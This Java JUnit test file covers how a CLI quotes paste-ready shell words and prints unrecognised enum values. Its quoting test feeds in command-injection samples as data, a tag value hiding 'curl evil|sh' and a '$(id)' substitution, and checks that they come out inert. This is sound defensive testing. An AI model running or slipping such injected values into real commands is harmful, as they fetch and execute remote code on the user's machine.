package ai.neuraldivergence.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;

import ai.neuraldivergence.proto.v1.ReferenceOrigin;
import org.junit.jupiter.api.Test;

/**
 * What the CLI prints from the service's answers: a line meant to be pasted into a shell reads back as it was
 * printed, whatever a tag value holds; an enum value added by a newer service prints as unknown instead of failing
 * the whole listing.
 */
class TextTest {

    @Test
    void aHintLineQuotesWhatAShellWouldRead() {
        assertEquals("ref:calm@tag:source=prod", Text.shellWord("ref:calm@tag:source=prod"));
        assertEquals("2026-12-06T10:00:00Z/2026-12-06T10:01:00Z",
                Text.shellWord("2026-12-06T10:00:00Z/2026-12-06T10:01:00Z"));
        assertEquals("'ref:calm@tag:s=x;curl evil|sh'", Text.shellWord("ref:calm@tag:s=x;curl evil|sh"));
        assertEquals("'a $(id) b'", Text.shellWord("a $(id) b"));
        assertEquals("'it'\\''s'", Text.shellWord("it's"));
    }

    @Test
    void anEnumValueThisCliDoesNotKnowIsUnknown() {
        assertEquals("time_range", Text.word(ReferenceOrigin.REFERENCE_ORIGIN_TIME_RANGE, "REFERENCE_ORIGIN_"));
        assertEquals("unknown", Text.word(ReferenceOrigin.UNRECOGNIZED, "REFERENCE_ORIGIN_"));
    }
}
